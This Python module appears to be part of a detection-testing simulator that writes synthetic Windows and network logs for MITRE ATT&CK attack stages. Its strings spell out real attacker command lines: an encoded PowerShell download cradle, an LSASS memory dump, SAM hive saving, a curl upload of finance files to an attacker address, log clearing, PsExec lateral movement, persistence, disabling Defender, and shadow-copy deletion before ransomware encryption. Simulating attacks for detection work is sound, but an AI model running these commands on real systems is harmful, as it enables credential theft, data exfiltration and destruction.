"""What attackers do on Windows hosts: Security, Sysmon, PowerShell, System. Source: MITRE ATT&CK for Windows; command lines as they are known."""

from base64 import b64encode

from minixdr.simulate.logs.vpc_flow import Flow
from minixdr.simulate.logs.windows_entries import (
    NETWORK,
    REMOTE_INTERACTIVE,
    Account,
    Process,
    connection,
    created,
    file_created,
    log_cleared,
    logon,
    logon_failed,
    privileges,
    process,
    process_accessed,
    registry_set,
    script_block,
    service_installed,
    task_created,
)
from minixdr.simulate.stage import Stage
from minixdr.simulate.world import ATTACKER_ADDRESSES, Host

POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_CMD = "C:\\Windows\\System32\\cmd.exe"
_EXPLORER = ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE")
_TRACE = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00007FF8C1B2)"


def administrator(stage: Stage) -> Account:
    """Return the domain administrator's account, in a new session."""
    return Account(
        "svc-deploy", f"{stage.world.domain_sid}-1601", hex(stage.rng.randrange(0x100000, 0xFFFFFF)), integrity="High"
    )


def start(stage: Stage, host: Host, account: Account, parent: Process, image: str, command: str) -> Process:
    """Start a program; return it."""
    started = process(stage.rng, image, command)
    stage.windows(host.name, *created(host.name, started, parent, account))
    stage.wait(2, 25)
    return started


def log_on(stage: Stage, host: Host, account: Account, source: Host) -> Process:
    """Log on by remote desktop from another host; return the desktop's shell."""
    stage.step(f"Remote desktop logon to {host.name} from {source.name}", "TA0008", "T1021.001")
    port = stage.rng.randrange(40_000, 60_000)
    stage.flow(
        Flow(source.interface_id, source.address, host.address, port, 3_389, 812_000, 59),
        Flow(host.interface_id, source.address, host.address, port, 3_389, 812_000, 59),
        Flow(host.interface_id, host.address, source.address, 3_389, port, 9_400_000, 59),
    )
    stage.windows(host.name, logon_failed(account.name, NETWORK, source.address, source.name.upper(), port))
    stage.wait(8, 20)
    stage.windows(
        host.name, logon(account, REMOTE_INTERACTIVE, source.address, host.name.upper(), port), privileges(account)
    )
    return process(stage.rng, *_EXPLORER)


def explore_domain(stage: Stage, host: Host, account: Account, shell: Process) -> None:
    """Ask for users, groups, trusts."""
    stage.step(f"The domain is explored from {host.name}", "TA0007", "T1087.002")
    console = start(stage, host, account, shell, _CMD, '"C:\\Windows\\system32\\cmd.exe"')
    for image, command in (
        ("whoami.exe", "whoami /all"),
        ("net.exe", 'net group "Domain Admins" /domain'), ("net1.exe", 'C:\\Windows\\system32\\net1 group "Domain Admins" /domain'),
        ("nltest.exe", "nltest /domain_trusts"), ("net.exe", "net view /all /domain"), ("systeminfo.exe", "systeminfo"),
        ("quser.exe", "quser"), ("tasklist.exe", "tasklist /svc"),
    ):  # fmt: skip
        start(stage, host, account, console, image, command)


def download_by_powershell(stage: Stage, host: Host, account: Account, shell: Process) -> Process:
    """Run an encoded command that loads a script; return the PowerShell."""
    stage.step(f"An encoded PowerShell command loads a script on {host.name}", "TA0002", "T1059.001")
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{ATTACKER_ADDRESSES[1]}:8080/a.ps1')"
    encoded = b64encode(script.encode("utf-16-le")).decode()
    runner = start(stage, host, account, shell, POWERSHELL, f"powershell.exe -nop -w hidden -ep bypass -enc {encoded}")
    stage.windows(
        host.name,
        script_block(stage.rng, script),
        connection(runner, account, (host.address, 50_112), (ATTACKER_ADDRESSES[1], 8_080)),
    )
    stage.flow(
        Flow(host.interface_id, host.address, ATTACKER_ADDRESSES[1], 50_112, 8_080, 1_200),
        Flow(host.interface_id, ATTACKER_ADDRESSES[1], host.address, 8_080, 50_112, 310_000),
    )
    return runner


def dump_credentials(stage: Stage, host: Host, account: Account, parent: Process) -> None:
    """Write LSASS's memory and the registry's account hives to disk."""
    stage.step(f"The memory of LSASS is dumped on {host.name}", "TA0006", "T1003.001")
    target = "C:\\Windows\\Temp\\lsass.dmp"
    dumper = start(
        stage,
        host,
        account,
        parent,
        "rundll32.exe",
        f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 {target} full",
    )
    lsass = process(stage.rng, "lsass.exe", "C:\\Windows\\system32\\lsass.exe")
    stage.windows(
        host.name, process_accessed(dumper, lsass, account, "0x1fffff", _TRACE), file_created(dumper, account, target)
    )
    stage.step(f"The registry's account hives are saved on {host.name}", "TA0006", "T1003.002")
    for hive in ("sam", "security", "system"):
        start(stage, host, account, parent, "reg.exe", f"reg save HKLM\\{hive} C:\\Windows\\Temp\\{hive}.save")


def send_out(stage: Stage, host: Host, account: Account, parent: Process, megabytes: int) -> None:
    """Pack files and upload them."""
    stage.step(f"Files of {host.name} are packed and uploaded", "TA0010", "T1041")
    archive = "C:\\Windows\\Temp\\backup.7z"
    packer = start(
        stage,
        host,
        account,
        parent,
        "C:\\Windows\\Temp\\7z.exe",
        f"C:\\Windows\\Temp\\7z.exe a -pExample1 {archive} D:\\Shares\\Finance\\*",
    )
    stage.windows(host.name, file_created(packer, account, archive))
    sender = start(
        stage, host, account, parent, "curl.exe", f"curl.exe -k -T {archive} https://{ATTACKER_ADDRESSES[1]}/u"
    )
    stage.windows(host.name, connection(sender, account, (host.address, 50_388), (ATTACKER_ADDRESSES[1], 443)))
    for part in range(8):
        stage.flow(
            Flow(host.interface_id, host.address, ATTACKER_ADDRESSES[1], 50_388, 443, megabytes * 125_000 + part, 59)
        )
        stage.wait(55, 60)


def clear_log(stage: Stage, host: Host, account: Account, parent: Process) -> None:
    """Clear the Security log."""
    stage.step(f"The Security log of {host.name} is cleared", "TA0112", "T1685.005")
    start(stage, host, account, parent, "wevtutil.exe", "wevtutil cl Security")
    stage.windows(host.name, log_cleared(account))


def move_by_service(stage: Stage, source: Host, target: Host, account: Account, parent: Process) -> Process:
    """Run a command on another host by a service (PsExec); return what runs there."""
    stage.step(f"A service is installed on {target.name} from {source.name}", "TA0008", "T1021.002")
    command = f"C:\\Windows\\Temp\\PsExec64.exe \\\\{target.name} -accepteula -s cmd.exe"
    start(stage, source, account, parent, "C:\\Windows\\Temp\\PsExec64.exe", command)
    port = stage.rng.randrange(49_152, 60_000)
    stage.flow(Flow(target.interface_id, source.address, target.address, port, 445, 940_000, 20))
    stage.windows(target.name, logon(account, NETWORK, source.address, source.name.upper(), port), privileges(account))
    stage.windows(target.name, service_installed("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"))
    service = process(stage.rng, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe")
    return start(stage, target, account, service, _CMD, '"cmd.exe"')


def keep_by_registry_and_task(stage: Stage, host: Host, account: Account, parent: Process) -> None:
    """Start again at each logon and each hour."""
    stage.step(f"A run key and a scheduled task bring the program back on {host.name}", "TA0003", "T1547.001")
    key, program = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "C:\\ProgramData\\upd\\svc.exe"
    adder = start(stage, host, account, parent, "reg.exe", f"reg add {key} /v Updater /t REG_SZ /d {program} /f")
    stage.windows(host.name, registry_set(adder, account, f"{key}\\Updater", program))
    stage.step(f"A scheduled task is made on {host.name}", "TA0003", "T1053.005")
    start(
        stage,
        host,
        account,
        parent,
        "schtasks.exe",
        f'schtasks /create /tn "Updater" /tr {program} /sc hourly /ru SYSTEM /f',
    )
    stage.windows(host.name, task_created(account, "\\Updater", program, ""))


def disable_protection(stage: Stage, host: Host, account: Account, parent: Process) -> None:
    """Switch Defender off."""
    stage.step(f"Defender is switched off on {host.name}", "TA0112", "T1685")
    command = "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true"
    start(stage, host, account, parent, POWERSHELL, command)
    stage.windows(host.name, script_block(stage.rng, "Set-MpPreference -DisableRealtimeMonitoring $true"))


def encrypt_files(stage: Stage, host: Host, account: Account, parent: Process, count: int) -> None:
    """Remove what could restore, encrypt, leave a note."""
    stage.step(f"Shadow copies and recovery are removed on {host.name}", "TA0040", "T1490")
    start(stage, host, account, parent, "vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet")
    start(stage, host, account, parent, "wbadmin.exe", "wbadmin delete catalog -quiet")
    start(stage, host, account, parent, "bcdedit.exe", "bcdedit /set {default} recoveryenabled No")
    stage.step(f"{count} files are encrypted on {host.name}", "TA0040", "T1486")
    locker = start(
        stage,
        host,
        account,
        parent,
        "C:\\ProgramData\\upd\\svc.exe",
        "C:\\ProgramData\\upd\\svc.exe --path D:\\Shares --no-net",
    )
    for number in range(count):
        stage.windows(
            host.name,
            file_created(locker, account, f"D:\\Shares\\Finance\\{2019 + number % 7}\\report-{number:04d}.xlsx.locked"),
        )
    stage.windows(host.name, file_created(locker, account, "D:\\Shares\\Finance\\README_RESTORE_FILES.txt"))
